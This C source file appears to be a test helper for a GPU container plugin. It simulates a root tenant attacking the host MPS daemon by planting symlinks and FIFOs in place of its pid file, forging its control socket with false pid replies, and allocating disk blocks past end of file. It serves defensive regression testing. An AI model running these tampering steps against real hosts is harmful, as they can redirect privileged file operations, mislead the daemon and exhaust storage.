/*
 * mps_attack.c: what a root tenant in an mps or soft-slice container tries against the host (issue 32).
 * Built static by tests/integration/plugin/test_plugin_mps_attacks.py and run as the only program of a runc
 * container that has the plugin's CDI mounts. Each step prints "<step> ok" or "<step> <errno name>".
 *
 *   mps_attack plant <pid file> <link target> <seconds>  delete the daemon's pid file, then keep a symlink
 *                                                      to <link target> at its name for <seconds>
 *   mps_attack fifo <pid file>                         delete it, put a FIFO at its name
 *   mps_attack remove <pid file>                       delete it
 *   mps_attack forge <pipe dir> <seconds>              replace the control socket by a listener that answers
 *                                                      get_server_list with 64 copies of pid 1 and never
 *                                                      answers get_client_list
 *   mps_attack fallocate <file> <bytes>                allocate blocks past the end (FALLOC_FL_KEEP_SIZE)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static void report(const char *step, int rc)
{
    printf("%s %s\n", step, rc == 0 ? "ok" : strerrorname_np(errno));
    fflush(stdout);
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int forge(const char *pipe, double seconds)
{
    char path[256];
    snprintf(path, sizeof path, "%s/control", pipe);
    report("unlink-control", unlink(path));
    int ls = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    snprintf(addr.sun_path, sizeof addr.sun_path, "%s", path);
    int rc = bind(ls, (struct sockaddr *)&addr, sizeof addr);
    report("bind-control", rc);
    if (rc != 0)
        return 0;
    chmod(path, 0777);
    listen(ls, 64);
    int held[256], nheld = 0;
    (void)held;
    double end = now() + seconds;
    while (now() < end) {
        struct pollfd p = {.fd = ls, .events = POLLIN};
        if (poll(&p, 1, 100) <= 0)
            continue;
        int fd = accept(ls, NULL, NULL);
        if (fd < 0)
            continue;
        char line[512] = "";
        ssize_t n = read(fd, line, sizeof line - 1);
        if (n > 0 && !strncmp(line, "get_server_list", 15)) {
            char reply[256] = "";
            for (int i = 0; i < 64; i++)
                strcat(reply, "1\n");
            (void)!write(fd, reply, strlen(reply));
            close(fd);
        } else if (nheld < 256) {
            held[nheld++] = fd; /* never answered */
        } else {
            close(fd);
        }
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    const char *what = argv[1], *path = argv[2];
    if (!strcmp(what, "remove")) {
        report("unlink", unlink(path));
    } else if (!strcmp(what, "fifo")) {
        report("unlink", unlink(path));
        report("mkfifo", mkfifo(path, 0644));
    } else if (!strcmp(what, "plant") && argc == 5) {
        report("unlink", unlink(path));
        int planted = 0, first = 1;
        double end = now() + atof(argv[4]);
        while (now() < end) {
            int rc = symlink(argv[3], path);
            if (rc == 0)
                planted++;
            if (first || rc == 0) {
                if (first)
                    report("symlink", rc);
                first = 0;
            }
            if (rc != 0 && errno != EEXIST)
                usleep(1000);
        }
        printf("planted %d\n", planted);
    } else if (!strcmp(what, "forge") && argc == 4) {
        forge(path, atof(argv[3]));
    } else if (!strcmp(what, "fallocate") && argc == 4) {
        int fd = open(path, O_RDWR);
        report("open", fd < 0 ? -1 : 0);
        if (fd >= 0) {
            struct stat st;
            fstat(fd, &st);
            report("fallocate", fallocate(fd, FALLOC_FL_KEEP_SIZE, st.st_size, atoll(argv[3])));
        }
    } else {
        return 2;
    }
    return 0;
}
